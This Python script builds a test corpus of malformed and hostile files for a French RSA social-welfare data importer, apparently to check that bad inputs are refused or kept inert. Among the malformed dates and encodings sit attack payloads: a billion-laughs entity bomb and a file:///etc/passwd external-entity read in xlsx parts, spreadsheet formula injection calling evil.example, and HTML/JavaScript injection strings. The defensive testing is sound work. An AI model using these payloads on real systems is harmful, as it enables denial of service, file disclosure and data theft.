"""Write the bad-file corpus of tests/data/bad/ (run once; the files are committed).

    .venv/bin/python tests/data/bad/make_corpus.py

Every file is small (a few KB at most) and made from the example exports of
tests/data/samples/. The big ones (zip bomb, 1,000,000 rows, 200 MB, 100k-char
cell) are generated at test time by tests/test_bad_files.py instead.
What each file is and what it must give is in manifest.toml, next to this script.
"""

from __future__ import annotations

import codecs
import io
import random
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent

SOLIS_HEADER = (
    "N° allocataire;Organisme payeur;NIR;Nom;Prénom;Date de naissance;Sexe;Site;"
    "Date ouverture droits;Date réception flux CAF/MSA;Soumis droits et devoirs;"
    "Date orientation;Date notification orientation;Dominante;Organisme référent;Référent;"
    "Date 1er RDV accompagnement;Date signature CER;Date sortie RSA;Motif sortie"
)
SOLIS_ROWS = [
    "6626571;CAF;1040635257392 18;Le Goff;Marie;28/06/2004;M;CDAS Redon;25/02/2024;"
    "01/03/2024;O;19/03/2024;23/03/2024;Remobilisation;CDAS;REF001;;;;",
    "2037020;CAF;2851235868199 74;Martin;Jean;19/12/1985;F;CDAS Guichen;16/02/2024;"
    "17/02/2024;O;22/02/2024;26/02/2024;Emploi;Pôle emploi;REF002;11/03/2024;;;",
    "9625005;CAF;1681235483848 24;Benali;Nadia;16/12/1968;M;CDAS Bain-de-Bretagne;04/01/2024;"
    "10/01/2024;O;10/02/2024;14/02/2024;Socio-professionnel;PE;REF003;25/02/2024;;;",
]
FT_HEADER = (
    "Identifiant FT;NIR;Numéro CAF;Date d'inscription;Modalité d'accompagnement;Conseiller;"
    "Date 1er entretien;Date signature PPAE / CE;Heures d'activité S-1;Date reprise d'emploi;"
    "Type de contrat;Durée contrat (mois)"
)
FT_ROWS = [
    "2501915C;285123586819974;2037020;2024-03-09;Global;FT81;2024-03-12;2024-03-20;12;"
    "2024-05-13;CDI;",
    "8524829F;168123548384824;9625005;2024-02-01;Suivi;FT19;2024-02-04;2024-02-09;16,5;"
    "2024-06-03;CDD;3",
]
ML_HEADER = (
    "Numéro dossier i-milo,N° allocataire CAF,Date naissance,Conseiller,Date premier accueil,"
    "Date entrée CEJ,Situation,Date début situation,Nature contrat"
)
ML_ROWS = [
    "ML3574928,6626571,28/06/2004,ML-1,24/03/2024,30/03/2024,Demandeur d'emploi,25/05/2024,Intérim",
    "ML3588014,2235053,03/06/2005,ML-6,07/04/2024,11/04/2024,Formation,19/05/2024,Intérim",
]
RDV_HEADER = "N° allocataire;Motif;Date invitation;Date RDV;Statut;Relance;Structure"
RDV_ROWS = [
    "6626571;Accompagnement;13/03/2024;27/03/2024 09:30;Absent non excusé;21/03/2024;CDAS Redon",
    "2037020;Orientation;25/02/2024;08/03/2024 09:30;Excusé;;CDAS Bain-de-Bretagne",
]
ROADMAP_HEADER = (
    "Axe;Cible opérationnelle;Étape / action;Responsable(s);Échéance estimée;"
    "Indicateur de suivi;Avancement;Commentaire"
)
ROADMAP_ROWS = [
    "Entrée en parcours;Orienter en moins de 15 jours;Déployer le co-diagnostic;CD, FT;"
    "Fin mars;Part des entrants orientés;Réalisé;",
    "Entrée en parcours;Orienter en moins de 15 jours;Rédiger la charte;CD;S12;;En cours;",
]
TARGETS_HEADER = "Indicateur;Début de période;Fin de période;Cible;Valeur de référence (T0)"
TARGETS_ROWS = ["taux_orientes_15j;01/01/2024;30/06/2024;60 %;40 %"]


def lines(header: str, rows: list[str]) -> str:
    return "\r\n".join([header, *rows]) + "\r\n"


def solis(rows: list[str], header: str = SOLIS_HEADER) -> bytes:
    return lines(header, rows).encode("cp1252")


def solis_row(**changes: str) -> str:
    """The first SOLIS row with some cells replaced (by header name)."""
    names = SOLIS_HEADER.split(";")
    cells = SOLIS_ROWS[0].split(";")
    for name, value in changes.items():
        cells[names.index(name.replace("_", " "))] = value
    return ";".join(cells)


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_part(part: str, body: bytes) -> bytes:
    """A valid small SOLIS workbook whose `part` is replaced by `body`."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([SOLIS_HEADER.split(";"), SOLIS_ROWS[0].split(";")])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, body if info.filename == part else source.read(info))
    return buffer.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (level, (b"&lol%s;" % (str(level - 1).encode() if level > 1 else b"")) * 10)
        for level in range(1, 10)
    )
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def corpus() -> dict[str, bytes]:
    rng = random.Random(8)
    png = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
        b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7"
        b"5\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
    )
    good_xlsx = xlsx([SOLIS_HEADER.split(";"), *(row.split(";") for row in SOLIS_ROWS)])
    html = "<img src=x onerror=alert(1)>"
    files = {
        # --- file-level refusals -------------------------------------------------------------
        "solis_empty.csv": b"",
        "solis_blank_lines.csv": b";;;\r\n\r\n  \r\n;;\r\n",
        "solis_header_only.csv": solis([]),
        "solis_utf16_no_bom.csv": lines(SOLIS_HEADER, SOLIS_ROWS).encode("utf-16-le"),
        "solis_binary_renamed.csv": bytes(rng.randrange(256) for _ in range(4096)),
        "solis_png_renamed.xlsx": png,
        "solis_png_renamed.csv": png,
        "solis_html_page.xls": (
            "<html><body><table><tr><td>N° allocataire</td></tr>"
            "<tr><td>6626571</td></tr></table></body></html>"
        ).encode(),
        "solis_pipe_separator.csv": lines(
            SOLIS_HEADER.replace(";", "|"), [row.replace(";", "|") for row in SOLIS_ROWS]
        ).encode("cp1252"),
        "solis_missing_required_column.csv": solis(
            [row.split(";", 1)[1] for row in SOLIS_ROWS], SOLIS_HEADER.split(";", 1)[1]
        ),
        "solis_duplicate_header.csv": solis(
            [row + ";01/04/2024" for row in SOLIS_ROWS], SOLIS_HEADER + ";Date orientation"
        ),
        "solis_duplicate_header_case.csv": solis(
            [row + ";X" for row in SOLIS_ROWS], SOLIS_HEADER + ";SITE"
        ),
        "solis_unclosed_quote.csv": solis([SOLIS_ROWS[0], '"' + SOLIS_ROWS[1] + "x" * 20]),
        "solis_truncated.xlsx": good_xlsx[: len(good_xlsx) // 2],
        "solis_billion_laughs.xlsx": xlsx_with_part("xl/worksheets/sheet1.xml", BILLION_LAUGHS),
        "solis_external_entity.xlsx": xlsx_with_part(
            "xl/styles.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<numFmts><numFmt numFmtId='164' formatCode='&e;'/></numFmts></styleSheet>",
        ),
        "solis_not_a_workbook.xlsx": _zip({"readme.txt": b"pas un classeur"}),
        "ft_all_rows_bad.csv": codecs.BOM_UTF8
        + lines(FT_HEADER, [row.replace("2024-", "2024-13-", 1) for row in FT_ROWS]).encode(),
        "roadmap_missing_action_column.csv": lines(
            ROADMAP_HEADER.replace("Étape / action;", ""),
            [";".join(row.split(";")[:2] + row.split(";")[3:]) for row in ROADMAP_ROWS],
        ).encode("utf-8"),
        "targets_missing_target_column.csv": lines(
            TARGETS_HEADER.replace(";Cible", ""),
            [row.replace(";60 %", "") for row in TARGETS_ROWS],
        ).encode("utf-8"),
        "ml_header_only.csv": (ML_HEADER + "\r\n").encode("utf-8"),
        "rdv_all_formulas.csv": lines(
            RDV_HEADER,
            [
                '=HYPERLINK("http://evil.example/?x="&A1;"clic");Orientation;+1;-1+1;@SUM(A1);;X',
            ],
        ).encode("utf-8"),
        # --- rows rejected with their reason, the others loaded ---------------------------------
        "solis_impossible_date.csv": solis(
            [
                SOLIS_ROWS[0],
                solis_row(**{"Date orientation": "31/02/2024"}).replace("6626571", "1111111", 1),
            ]
        ),
        "solis_future_date.csv": solis(
            [SOLIS_ROWS[1], solis_row(**{"Date orientation": "15/01/2031"})]
        ),
        "solis_formulas.csv": solis(
            [
                SOLIS_ROWS[1],
                solis_row(**{"Date orientation": '=HYPERLINK("http://evil.example","clic")'}),
                solis_row(**{"Date orientation": "+1"}).replace("6626571", "1111112", 1),
                solis_row(**{"Date orientation": "-1+1"}).replace("6626571", "1111113", 1),
                solis_row(**{"Date orientation": "@SUM(A1)"}).replace("6626571", "1111114", 1),
            ]
        ),
        "solis_nul_bytes.csv": solis([SOLIS_ROWS[1]])
        + solis_row(**{"Date orientation": "19/03/2024"})
        .replace("19/03", "19\x00/03")
        .encode("cp1252")
        + b"\r\n",
        "solis_ragged_rows.csv": solis(
            [
                SOLIS_ROWS[1],
                SOLIS_ROWS[0] + ";en trop;encore",
                ";".join(SOLIS_ROWS[2].split(";")[:4]),
            ]
        ),
        "solis_mixed_separators.csv": solis([SOLIS_ROWS[0], SOLIS_ROWS[1].replace(";", ",")]),
        "solis_bom_cp1252_mix.csv": codecs.BOM_UTF8 + solis(SOLIS_ROWS),
        "solis_latin1_accents_in_values.csv": solis(
            [
                SOLIS_ROWS[0],
                solis_row(
                    **{"Dominante": "Équilibré", "Organisme référent": "Pôle emploi"}
                ).replace("6626571", "1111115", 1),
                solis_row(**{"Dominante": "Inconnue ô"}).replace("6626571", "1111116", 1),
            ]
        ),
        "solis_bad_nir.csv": solis(
            [
                SOLIS_ROWS[1],
                solis_row(NIR="1040635257392 19"),
                solis_row(NIR="ABCDEFGHIJKLM").replace("6626571", "1111117", 1),
            ]
        ),
        "solis_formulas.xlsx": xlsx(
            [
                SOLIS_HEADER.split(";"),
                SOLIS_ROWS[1].split(";"),
                solis_row(**{"Date orientation": '=HYPERLINK("http://evil.example","clic")'}).split(
                    ";"
                ),
            ]
        ),
        "ft_impossible_iso_date.csv": codecs.BOM_UTF8
        + lines(FT_HEADER, [FT_ROWS[0], FT_ROWS[1].replace("2024-02-04", "2024-02-30")]).encode(),
        "ft_bad_hours.csv": codecs.BOM_UTF8
        + lines(FT_HEADER, [FT_ROWS[0], FT_ROWS[1].replace(";16,5;", ";seize;")]).encode(),
        "ml_future_birth.csv": lines(
            ML_HEADER, [ML_ROWS[0], ML_ROWS[1].replace("03/06/2005", "03/06/2030")]
        ).encode(),
        "rdv_unknown_status.csv": lines(
            RDV_HEADER, [RDV_ROWS[0], RDV_ROWS[1].replace("Excusé", "Peut-être")]
        ).encode(),
        "rdv_impossible_time.csv": lines(
            RDV_HEADER, [RDV_ROWS[0], RDV_ROWS[1].replace("08/03/2024 09:30", "08/03/2024 25:99")]
        ).encode(),
        "targets_unknown_indicator.csv": lines(
            TARGETS_HEADER, [*TARGETS_ROWS, "indicateur_qui_n_existe_pas;01/01/2024;30/06/2024;10;"]
        ).encode(),
        "targets_end_before_start.csv": lines(
            TARGETS_HEADER, [*TARGETS_ROWS, "taux_orientes_15j;01/07/2024;30/06/2024;80 %;"]
        ).encode(),
        # --- loaded, hostile text kept as inert text ------------------------------------------
        "solis_duplicate_rows.csv": solis([SOLIS_ROWS[0], SOLIS_ROWS[0], SOLIS_ROWS[1]]),
        "solis_html_in_cells.csv": solis(
            [SOLIS_ROWS[1], solis_row(Site=html, Référent="javascript:alert(1)")]
        ),
        "rdv_html_structure.csv": lines(
            RDV_HEADER, [RDV_ROWS[0].replace("CDAS Redon", html)]
        ).encode(),
        "roadmap_formulas_and_links.csv": lines(
            ROADMAP_HEADER,
            [
                ROADMAP_ROWS[0].replace("Déployer le co-diagnostic", '=HYPERLINK("http://x","y")'),
                ROADMAP_ROWS[1].replace(";En cours;", ";En cours;javascript:alert(1)"),
            ],
        ).encode(),
        "roadmap_unreadable_deadline.csv": lines(
            ROADMAP_HEADER, [ROADMAP_ROWS[0].replace("Fin mars", "31/02/2024 ou jamais")]
        ).encode(),
    }
    return files


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


if __name__ == "__main__":
    for name, body in corpus().items():
        (HERE / name).write_bytes(body)
        print(f"{name}: {len(body)} octets")
